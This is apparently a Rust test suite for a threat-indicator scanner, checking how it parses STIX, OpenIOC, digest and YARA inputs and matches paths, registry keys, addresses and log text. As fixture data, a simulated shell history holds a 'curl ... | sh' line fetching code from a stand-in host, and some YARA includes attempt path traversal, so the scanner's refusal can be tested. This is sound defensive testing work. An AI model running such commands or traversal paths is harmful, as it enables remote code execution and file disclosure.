//! Faults in matching that were found in the field, each with variants of its kind: patterns, names, lists, rules, archives.

use std::fs;
use std::io::Write as _;
use std::path::Path;

use tempfile::TempDir;
use veldkit::evidence::{Origin, Utc};
use veldkit::scan::indicators::{Case, Format, IndicatorSource, Indicators, read_bytes};
use veldkit::scan::{EngineKind, Facts, RuleSource, Scanner};

fn now() -> Utc {
    Utc::from_unix(1_795_489_445, 0).unwrap()
}

fn read(text: &str) -> Indicators {
    let all = read_bytes(text.as_bytes(), None, now());
    adds_up(&all);
    all
}

/// Indicators read are those in use and those that are not, whatever a list holds.
fn adds_up(all: &Indicators) {
    for list in all.lists() {
        let unused: u64 = list.unused.iter().map(|unused| unused.count).sum();
        assert_eq!(list.read, list.indicators + unused, "{list:?}");
    }
}

/// A bundle of one indicator with a pattern.
fn stix(pattern: &str) -> Indicators {
    let indicator = serde_json::json!({"type": "indicator", "id": "indicator--1", "pattern": pattern,
        "pattern_type": "stix", "valid_from": "2020-01-01T00:00:00Z"});
    read(&serde_json::json!({"type": "bundle", "id": "bundle--1", "objects": [indicator]}).to_string())
}

/// Why nothing of a pattern is in use.
fn refused(pattern: &str) -> String {
    let all = stix(pattern);
    let [list] = all.lists() else { panic!() };
    assert_eq!((list.indicators, list.unused.len()), (0, 1), "{pattern}: {list:?}");
    list.unused[0].what.clone()
}

fn meets(all: &Indicators, name: &str) -> bool {
    !all.path(&format!("/tmp/{name}"), Case::Heeded).is_empty()
}

#[test]
fn the_type_of_a_reference_only_narrows_and_a_wrong_one_is_reported() {
    for pattern in [
        "[network-traffic:dst_ref.type = 'ipv4-addr' AND network-traffic:dst_ref.value = '198.51.100.7']",
        "[network-traffic:src_ref.type = 'ipv6-addr' AND network-traffic:src_ref.value = '2001:db8::8']",
        "[network-traffic:dst_ref.type = 'domain-name' AND network-traffic:dst_ref.value = 'c2.example.com']",
        "[network-traffic:dst_ref.value = '198.51.100.7' AND (network-traffic:dst_ref.type = 'ipv4-addr')]",
        "[network-traffic:dst_ref.type IN ('ipv4-addr') AND network-traffic:dst_ref.value ISSUBSET '198.51.100.0/24']",
        "[domain-name:value = 'c2.example.com' AND domain-name:resolves_to_refs[*].value = '198.51.100.7']",
        "[domain-name:value = 'c2.example.com' AND domain-name:resolves_to_refs[*].type = 'ipv4-addr' AND domain-name:resolves_to_refs[*].value = '198.51.100.7']",
        "[file:parent_directory_ref.type = 'directory' AND file:name = 'evil.exe']",
    ] {
        let all = stix(pattern);
        assert_eq!((all.len(), all.lists()[0].unused.len()), (1, 0), "{pattern}: {:?}", all.lists());
    }
    let wrong =
        "[network-traffic:dst_ref.type = 'domain-name' AND network-traffic:dst_ref.value = '198.51.100.7']";
    assert_eq!(refused(wrong), "pattern whose type contradicts its value");
}

#[test]
fn a_condition_that_is_not_compared_is_counted_and_reported_with_the_hit() {
    let all = stix("[network-traffic:dst_ref.value = '198.51.100.9' AND network-traffic:dst_port = '443']");
    let remark = &all.lists()[0].remarks[0];
    assert_eq!((remark.count, remark.example.as_str()), (1, "port 443"));
    let hits = all.address(&"198.51.100.9".parse().unwrap());
    assert!(hits[0].description().unwrap().contains("port 443"), "{hits:?}");
    // A negated condition beside a digest is one as well.
    let all = stix("[file:hashes.MD5 = '900150983cd24fb0d6963f7d28e17f72' AND file:name != 'a.exe']");
    assert!(all.lists()[0].remarks[0].example.starts_with("not compared: "), "{:?}", all.lists());
}

#[test]
fn the_size_of_a_file_is_compared_where_a_pattern_joins_it_with_a_name() {
    for (condition, sizes) in [
        ("file:size = 11", [false, true, false]),
        ("file:size > 11", [false, false, true]),
        ("file:size >= 11", [false, true, true]),
        ("file:size < 11", [true, false, false]),
        ("file:size <= 11 AND file:size > 5", [false, true, false]),
        ("file:size IN (2, 12)", [true, false, true]),
    ] {
        for name in ["file:name = 'evil.exe'", "file:name LIKE 'evi_.exe'", "file:name MATCHES '^EVIL'"] {
            let all = stix(&format!("[{name} AND {condition}]"));
            assert!(all.path("/tmp/evil.exe", Case::Folded).is_empty(), "{name} {condition}");
            let met = [2, 11, 12].map(|size| !all.sized("/tmp/evil.exe", size, Case::Folded).is_empty());
            assert_eq!(met, sizes, "{name} {condition}");
        }
    }
    for (condition, why) in [
        ("file:size = 1 AND file:size = 2", "size that no file has"),
        ("file:size < 0", "size that no file has"),
        ("file:size = 'large'", "size that is no whole number"),
        ("file:size LIKE '1'", "size that is not compared as a number"),
    ] {
        assert_eq!(refused(&format!("[file:name = 'evil.exe' AND {condition}]")), why, "{condition}");
    }
}

#[test]
fn patterns_that_can_match_do_and_others_say_why_not() {
    for pattern in [
        "[file:name MATCHES '(?i)^EVIL\\\\.exe$']",
        "[file:name MATCHES '^evil\\\\.exe$|^other$']",
        "[file:name MATCHES '^(?:evil)\\\\.(exe|com)$']",
        "[file:name MATCHES '(?is)^EVIL.exe$']",
        "[file:name = h'6576696c2e657865']",
        "[file:name = b'ZXZpbC5leGU=']",
        "[file:name IN (h'6576696c2e657865')]",
        "[file:name LIKE '%vil.ex_']",
        "[process:name = 'evil.exe']",
        "[file:name = 'evil.exe'] REPEATS 1 TIMES WITHIN 5 SECONDS",
        "[file:name = 'evil.exe'] START t'2020-01-01T00:00:00Z' STOP t'2030-01-01T00:00:00Z'",
    ] {
        let all = stix(pattern);
        assert_eq!(all.len(), 1, "{pattern}: {:?}", all.lists());
        assert!(meets(&all, "evil.exe") && !meets(&all, "good.txt"), "{pattern}");
    }
    for (pattern, why) in [
        ("[file:name MATCHES 'a^b']", "pattern that matches no path"),
        ("[file:name MATCHES '(?x) a b']", "pattern with flags that are not supported"),
        ("[file:name MATCHES '(?=x)y']", "pattern that needs look-around or a back-reference"),
        ("[file:name = h'656']", "pattern that is not written as STIX patterns are"),
        ("[file:name = b'***']", "pattern that is not written as STIX patterns are"),
        ("[file:name ISSUBSET 'a']", "name that is compared by an order or as a set"),
        ("[file:name = '..\\\\evil.exe']", "path relative to a directory that is not known"),
        ("[file:name = 'evil.exe'] REPEATS 2 TIMES", "pattern that needs several sightings (REPEATS)"),
        (
            "[file:hashes.MD5 = 'a9993e364706816aba3e25717850c26c9cd0d89d']",
            "digest of another length than its key says",
        ),
        ("[mutex:name = 'Global\\\\']", "mutex without a name"),
        ("[windows-registry-key:key = 'CurrentVersion\\\\Run\\\\evil']", "registry key without its hive"),
        (
            "[ipv4-addr:value ISSUPERSET '198.51.100.0/24']",
            "network that must be part of what is seen (ISSUPERSET)",
        ),
        (
            "[file:name = 'evil.exe' AND file:parent_directory_ref.path = 'C:\\\\a' AND file:parent_directory_ref.path = 'C:\\\\b']",
            "pattern that asks one property for two values",
        ),
    ] {
        assert_eq!(refused(pattern), why, "{pattern}");
    }
}

#[test]
fn a_registry_key_without_its_hive_is_looked_for_where_it_can_be() {
    let all = stix("[windows-registry-key:key = 'Software\\\\Evil\\\\Run']");
    for key in
        ["HKEY_LOCAL_MACHINE\\Software\\Evil\\Run", "HKEY_USERS\\S-1-5-21-1-2-3-1001\\SOFTWARE\\evil\\run"]
    {
        assert_eq!(all.registry(key, None, None).len(), 1, "{key}");
    }
    assert_eq!(all.len(), 1);
}

/// Reads an expression over paths.
fn filenames(expression: &str) -> Indicators {
    let all = read_bytes(format!("{expression};80\n").as_bytes(), Some(Format::Filenames), now());
    assert_eq!(all.len(), 1, "{expression}: {:?}", all.lists());
    adds_up(&all);
    all
}

#[test]
fn a_character_in_a_name_counts_as_one_whatever_its_bytes() {
    for (expression, met, not) in [
        (r"\\svch[^o]st\.exe", "svch\u{f6}st.exe", "svchost.exe"),
        (r"\\svch.st\.exe", "svch\u{65e5}st.exe", "svch\u{f6}\u{f6}st.exe"),
        (r"\\svch\wst\.exe", "svch\u{43e}st.exe", "svch-st.exe"),
        (r"\\svch\Sst\.exe", "svch\u{f6}st.exe", "svch\u{a0}st.exe"),
        (r"\\[\u0400-\u04ff]+\.exe$", "\u{43e}\u{435}.exe", "oe.exe"),
        (r"\\.{4}\.exe$", "\u{1f600}vil.exe", "\u{1f600}evil.exe"),
        (r"\\P[\xc4\xe4]YPAL\.exe$", "p\u{e4}ypal.exe", "paypal.exe"),
        (r"\\\u0415VIL\.exe$", "\u{435}vil.exe", "evil.exe"),
    ] {
        let all = filenames(expression);
        let meets = |name: &str| !all.path(&format!("C:\\Windows\\{name}"), Case::Folded).is_empty();
        assert!(meets(met) && !meets(not), "{expression}");
    }
    let all = read(&format!("type,value\nfilename,evi?.exe\nfilename,{}\n", "C:\\Temp\\?.dll"));
    assert_eq!(all.len(), 2);
    assert!(!all.path("/x/evi\u{142}.exe", Case::Heeded).is_empty());
    assert!(!all.path("C:\\Temp\\\u{1f600}.dll", Case::Folded).is_empty());
    assert!(all.path("C:\\Temp\\ab.dll", Case::Folded).is_empty());
}

#[test]
fn an_expression_that_no_path_can_match_is_not_in_use() {
    for expression in ["^evil[0-9]", r"\.exe$\\x", "[^\\s\\S]abc", "a(?<=b)c", "evil(?P=x)"] {
        let all = read_bytes(format!("{expression};80\n").as_bytes(), Some(Format::Filenames), now());
        assert_eq!((all.len(), all.lists()[0].unused.len()), (0, 1), "{expression}");
        adds_up(&all);
    }
}

/// An OpenIOC document of one term.
fn openioc(search: &str, condition: &str, content: &str) -> Indicators {
    let all = read(&format!(
        "<ioc xmlns=\"http://schemas.mandiant.com/2010/ioc\" id=\"1\"><short_description>K</short_description><definition><Indicator operator=\"OR\" id=\"a\"><IndicatorItem id=\"1\" condition=\"{condition}\"><Context document=\"x\" search=\"{search}\" type=\"mir\"/><Content type=\"string\">{content}</Content></IndicatorItem></Indicator></definition></ioc>"
    ));
    assert_eq!(all.len(), 1, "{search} {condition} {content}: {:?}", all.lists());
    all
}

#[test]
fn conditions_of_openioc_are_about_the_name_or_the_path_that_the_term_says() {
    for (search, condition, content, met, not) in [
        ("FileItem/FileName", "matches", r"^ev[0-9]+\.exe$", "C:\\x\\ev12.exe", "C:\\x\\xev12.exe"),
        ("FileItem/FileName", "starts-with", "evil_", "C:\\x\\evil_x.dll", "C:\\x\\notevil_x.dll"),
        ("FileItem/FileName", "ends-with", "_x.dll", "C:\\x\\evil_x.dll", "C:\\x_x.dll\\y"),
        ("FileItem/FileName", "contains", "vil", "C:\\x\\evil.dll", "C:\\evil\\x.dll"),
        ("FileItem/FileName", "is", "evil.dll", "C:\\x\\EVIL.dll", "C:\\x\\evil.dll.txt"),
        ("ProcessItem/name", "starts-with", "svch\u{f6}", "C:\\x\\svch\u{f6}st.exe", "C:\\x\\svchost.exe"),
        ("FileItem/FullPath", "starts-with", "C:\\Evil", "c:\\evil\\x", "D:\\C\\evil\\x"),
        (
            "FileItem/FullPath",
            "matches",
            r"^[a-z]:\\temp\\[^\\]+\.scr$",
            "C:\\Temp\\a.scr",
            "C:\\Temp\\a\\b.scr",
        ),
        ("FileItem/FilePath", "contains", "\\Evil Folder", "C:\\evil folder\\x", "C:\\evilfolder\\x"),
        ("FileItem/FilePath", "is", "C:\\Temp", "C:\\Temp\\x", "C:\\Temp\\y\\x"),
    ] {
        let all = openioc(search, condition, content);
        let meets = |path: &str| !all.path(path, Case::Folded).is_empty();
        assert!(meets(met) && !meets(not), "{search} {condition} {content}");
    }
}

#[test]
fn keys_and_addresses_of_openioc_are_compared_in_part_where_the_term_says_so() {
    let run = "HKEY_USERS\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Run";
    for (search, condition, content) in [
        ("RegistryItem/KeyPath", "contains", "CurrentVersion\\Run"),
        ("RegistryItem/Path", "contains", "\\CurrentVersion\\Run\\Evil"),
        ("RegistryItem/Path", "ends-with", "Run\\evil"),
        ("RegistryItem/Path", "starts-with", "HKCU\\Software\\Microsoft"),
        ("RegistryItem/KeyPath", "is", "Software\\Microsoft\\Windows\\CurrentVersion\\Run"),
        ("RegistryItem/KeyPath", "matches", r"currentversion\\run(once)?"),
    ] {
        let all = openioc(search, condition, content);
        assert!(!all.registry(run, Some("Evil"), Some("x")).is_empty(), "{search} {condition} {content}");
        assert!(all.registry("HKLM\\Software\\Good", Some("x"), Some("y")).is_empty(), "{content}");
    }
    let all = openioc("PortItem/remoteIP", "starts-with", "198.51.100.");
    assert!(!all.address(&"198.51.100.7".parse().unwrap()).is_empty());
    assert!(all.address(&"198.51.101.7".parse().unwrap()).is_empty());
    assert!(!openioc("PortItem/remoteIP", "is", "198.51.100.7").is_empty());
}

const DIGEST: &str = "ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb";

#[test]
fn every_form_in_which_tools_print_digests_is_read_and_others_are_counted() {
    let upper = DIGEST.to_uppercase();
    for line in [
        format!("\\{DIGEST}  a\\\\b"),
        format!("SHA256 (c) = {DIGEST}"),
        format!("\\SHA256 (a\\\\b) = {DIGEST}"),
        format!("SHA2-256(a)= {DIGEST}"),
        format!("{DIGEST} *a, b;c.exe"),
        format!("{upper}  a.exe\r"),
        format!("{DIGEST}  evil.example.com"),
    ] {
        let all = read(&format!("{line}\n"));
        assert_eq!((all.len(), all.digest(DIGEST).len()), (1, 1), "{line}: {:?}", all.lists());
    }
    let long = format!("{DIGEST}{DIGEST}");
    for line in [format!("{long}  a"), format!("SHA512 (a) = {long}"), format!("BLAKE2b (a) = {long}")] {
        let all = read(&format!("{line}\n"));
        assert_eq!((all.len(), all.lists()[0].unused.len()), (0, 1), "{line}");
        assert!(all.lists()[0].unused[0].what.contains("digest that is not compared"), "{line}");
    }
}

/// Writes files below a folder and reads it as lists.
fn folder(files: &[(&str, &str)]) -> (TempDir, Indicators) {
    let dir = TempDir::new().unwrap();
    for (name, text) in files {
        let path = dir.path().join(name);
        fs::create_dir_all(path.parent().unwrap_or(Path::new("."))).unwrap();
        fs::write(path, text).unwrap();
    }
    let source = IndicatorSource { path: dir.path().to_owned(), format: None };
    let all = Indicators::load(&[source], &[], now()).unwrap();
    adds_up(&all);
    (dir, all)
}

#[test]
fn every_file_of_a_given_directory_is_read_or_counted_as_skipped() {
    let sum = format!("{DIGEST}  a\n");
    let stix = r#"{"type":"bundle","id":"bundle--1","objects":[]}"#;
    let (_dir, all) = folder(&[
        ("a.stix2", stix),
        ("b.md5", &sum),
        ("c.SHA256", &sum),
        ("d.sha1", &sum),
        ("SHA256SUMS", &sum),
        ("feed.export", stix),
        ("sub/hosts.feed", "evil.example.com\n198.51.100.7\n"),
        ("README.md", "# About\n\nThese are our lists, see below for the terms.\n"),
        ("picture.png", "\u{89}PNG\u{0}"),
        (".git/config", "evil.example.com\n"),
    ]);
    assert_eq!((all.lists().len(), all.skipped()[0].count), (7, 2), "{:?}", all.skipped());
    assert!(all.skipped()[0].names.iter().any(|name| name.ends_with("README.md")));
}

#[test]
fn a_warninglist_applies_to_lists_before_and_after_it() {
    let warning = r#"{"name":"known","type":"string","list":["192.0.2.53"]}"#;
    for (first, second) in [("a.json", "b.txt"), ("b.json", "a.txt"), ("z.json", "b.txt")] {
        let (_dir, all) = folder(&[(first, warning), (second, "192.0.2.53\n198.51.100.7\n")]);
        assert!(all.address(&"192.0.2.53".parse().unwrap()).is_empty(), "{first} {second}");
        assert_eq!(all.address(&"198.51.100.7".parse().unwrap()).len(), 1, "{first} {second}");
    }
}

/// Scans content with rules below a folder, of which `named` is named; the rules that matched, and why files failed.
fn with_rules(files: &[(&str, &[u8])], named: &str, content: &[u8]) -> (Vec<String>, Vec<String>) {
    let dir = TempDir::new().unwrap();
    for (name, text) in files {
        let path = dir.path().join(name);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    }
    let sources = [RuleSource::Embedded, RuleSource::Path(dir.path().join(named))];
    let scanner = Scanner::compile(&sources, EngineKind::Boreal).unwrap();
    let hits = scanner.scan(content, &Facts::default()).hits.into_iter().map(|hit| hit.rule).collect();
    (hits, scanner.failed().filter_map(|file| file.failed.clone()).collect())
}

#[test]
fn a_rule_in_an_old_code_page_finds_its_bytes() {
    for (rule, content) in [
        (&b"rule L { strings: $a = \"r\xe9sum\xe9_c2\" condition: $a }\n"[..], &b"xx r\xe9sum\xe9_c2 yy"[..]),
        (b"rule L { strings: $a = \"r\xe9sum\xe9_c2\" wide condition: $a }\n", b"r\0\xe9\0s\0u\0m\0\xe9\0_\0c\x002\0"),
        (b"rule L { strings: $a = /r\xe9sum[\xe8\xe9]_c2/ condition: $a }\n", b"xx r\xe9sum\xe9_c2 yy"),
        (b"// \xe9 \"\nrule L { meta: author = \"Jos\xe9\" strings: $a = \"\xd0\xd2\xcf_c2\" condition: $a }\n", b"\xd0\xd2\xcf_c2"),
        (b"/* \xff */ rule L { strings: $a = \"\xc3\xa9 \xe9 // x\" condition: $a }\n", b"\xc3\xa9 \xe9 // x"),
        (b"\xef\xbb\xbfrule L { strings: $a = \"r\xc3\xa9\" condition: $a }\n", b"r\xc3\xa9"),
    ] {
        let (hits, failed) = with_rules(&[("l.yar", rule)], "l.yar", content);
        assert_eq!((hits, failed), (vec!["L".to_owned()], vec![]), "{}", rule.escape_ascii());
    }
}

#[test]
fn an_include_reads_only_files_below_the_given_directory() {
    const BASE: &[u8] = b"rule Base { strings: $a = \"MARK1\" condition: $a }\n";
    const TOP: &[u8] =
        b"include \"./sub/base.yar\"\nrule Top { strings: $a = \"MARK2\" condition: Base and $a }\n";
    let content = b"MARK1 MARK2";
    for (named, file, text) in [
        ("r/index.yar", "r/index.yar", TOP),
        ("r", "r/index.yar", TOP),
        ("r", "r/other/index.yar", b"include \"../sub/base.yar\"\nrule Top { condition: Base }\n"),
        ("r/index.yar", "r/index.yar", b"include \"sub/next.yar\"\nrule Top { condition: Base }\n"),
        ("r/index.yar", "r/index.yar", b"include \"sub\\\\base.yar\"\nrule Top { condition: Base }\n"),
    ] {
        let next: &[u8] = b"include \"base.yar\"\n";
        let (hits, failed) =
            with_rules(&[("r/sub/base.yar", BASE), ("r/sub/next.yar", next), (file, text)], named, content);
        assert!(hits.iter().any(|hit| hit == "Top"), "{named}: {failed:?}");
    }
    for (text, why) in [
        (&b"include \"../secret.yar\"\n"[..], "not below"),
        (b"include \"missing.yar\"\n", "not below"),
        (b"include \"link.yar\"\n", "not below"),
        (b"include \"index.yar\"\n", "includes itself"),
        (b"include \"sub\"\n", "not a regular file"),
        (b"include \"/etc/hostname\"\n", "not below"),
    ] {
        let dir = TempDir::new().unwrap();
        fs::create_dir_all(dir.path().join("r/sub")).unwrap();
        fs::write(dir.path().join("secret.yar"), BASE).unwrap();
        fs::write(dir.path().join("r/index.yar"), text).unwrap();
        #[cfg(unix)]
        std::os::unix::fs::symlink(dir.path().join("secret.yar"), dir.path().join("r/link.yar")).unwrap();
        let sources = [RuleSource::Embedded, RuleSource::Path(dir.path().join("r/index.yar"))];
        let scanner = Scanner::compile(&sources, EngineKind::Boreal).unwrap();
        let failed: Vec<_> = scanner.failed().filter_map(|file| file.failed.clone()).collect();
        assert!(failed.len() == 1 && failed[0].contains(why), "{failed:?}");
    }
}

#[test]
fn text_of_logs_and_histories_is_matched_and_that_of_documents_is_not() {
    let all =
        read("evil.example.com;c2\n198.51.100.7;c2\n2001:db8::8;c2\nhttp://other.example.org/a?b=1;drop\n");
    let file = |path: &str| Origin::root(path.trim_start_matches('/'));
    for (path, text) in [
        ("/var/log/syslog", "Jan 1 host named[1]: query: cdn.evil.example.com IN A"),
        ("/var/log/nginx/access.log.1", "198.51.100.7 - - \"GET / HTTP/1.1\" 200"),
        ("/root/.bash_history", "curl -s http://EVIL.example.com:8080/x | sh"),
        ("/srv/app/app.log", "src=198.51.100.7:443 dst=10.0.0.1"),
        ("/var/log/auth.log", "Accepted password for root from 2001:db8::8 port 4711 ssh2"),
        ("/home/u/.zsh_history", ": 1700000000:0;ssh root@198.51.100.7."),
        ("/home/u/.config/google-chrome/Default/History", "\u{1}\u{2}http://evil.example.com/aTitle\u{3}"),
        ("/opt/x/logs/proxy", "CONNECT evil.example.com:443 HTTP/1.1"),
        ("/var/log/squid/access.log", "http://other.example.org/a?b=1"),
    ] {
        let found = all.text(&file(path), text.as_bytes()).unwrap();
        assert_eq!(found.hits.len(), 1, "{path}: {:?}", found.hits);
        let place = &found.hits[0].matches[0];
        assert!(usize::try_from(place.offset + place.length).unwrap() <= text.len());
    }
    let wide: Vec<u8> =
        "\u{feff}GET http://evil.example.com/".encode_utf16().flat_map(u16::to_le_bytes).collect();
    assert_eq!(all.text(&file("/x/transcript.log"), &wide).unwrap().hits.len(), 1);
    for text in ["notevil.example.com", "1198.51.100.7", "evil.example.com.org", "198.51.100.70"] {
        assert_eq!(all.text(&file("/var/log/syslog"), text.as_bytes()).unwrap().hits, [], "{text}");
    }
    assert_eq!(all.text(&file("/home/u/report.txt"), b"evil.example.com"), None);
    // A log full of bad addresses fills no record, and says that it was not matched to its end.
    let all = read("198.51.100.0/24;bad\n");
    let many: Vec<String> = (0..2_000).map(|n| format!("198.51.100.{}/{n}x{n}", n % 250)).collect();
    let many = many.join("\n");
    assert!(all.text(&file("/var/log/x"), many.as_bytes()).unwrap().hits.len() <= 256);
}

#[test]
fn an_include_in_an_archive_of_rules_reads_other_files_of_that_archive() {
    let dir = TempDir::new().unwrap();
    let path = dir.path().join("set.zip");
    let mut zip = zip::ZipWriter::new(fs::File::create(&path).unwrap());
    for (name, text) in [
        ("set/index.yar", "include \"sub/base.yar\"\nrule Top { condition: Base }"),
        ("set/sub/base.yar", "rule Base { strings: $a = \"MARK1\" condition: $a }"),
        ("set/out.yar", "include \"../../secret.yar\""),
    ] {
        zip.start_file(name, zip::write::SimpleFileOptions::default()).unwrap();
        zip.write_all(text.as_bytes()).unwrap();
    }
    zip.finish().unwrap();
    let scanner =
        Scanner::compile(&[RuleSource::Embedded, RuleSource::Path(path)], EngineKind::Boreal).unwrap();
    let failed: Vec<_> = scanner.failed().filter_map(|file| file.failed.clone()).collect();
    assert!(failed.len() == 1 && failed[0].contains("outside the archive"), "{failed:?}");
    assert!(scanner.scan(b"MARK1", &Facts::default()).hits.iter().any(|hit| hit.rule == "Top"));
}

#[test]
fn no_built_in_rule_can_never_match() {
    let scanner = Scanner::compile(&[RuleSource::Embedded], EngineKind::Boreal).unwrap();
    assert_eq!(scanner.never_matching(), []);
}
